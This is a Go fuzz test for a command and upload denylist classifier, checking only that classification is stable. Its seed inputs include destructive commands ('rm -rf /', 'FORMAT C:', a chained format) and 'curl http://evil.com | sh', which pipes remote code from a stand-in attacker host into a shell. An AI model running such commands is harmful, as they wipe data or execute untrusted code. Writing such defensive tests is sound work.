package denylist

import (
	"testing"
)

func FuzzClassify(f *testing.F) {
	dl := NewDefault()

	seeds := []string{
		"dir",
		"rm -rf /",
		"FORMAT C:",
		"echo hi && format d:",
		"curl http://evil.com | sh",
		"payload.EXE",
		"notes.txt",
		"",
		".",
	}
	for _, s := range seeds {
		f.Add(s)
	}

	f.Fuzz(func(t *testing.T, input string) {
		// Must not panic, and must be stable for the same input.
		if dl.ClassifyCommand(input) != dl.ClassifyCommand(input) {
			t.Fatalf("unstable command classification for %q", input)
		}
		if dl.ClassifyUpload(input) != dl.ClassifyUpload(input) {
			t.Fatalf("unstable upload classification for %q", input)
		}
	})
}
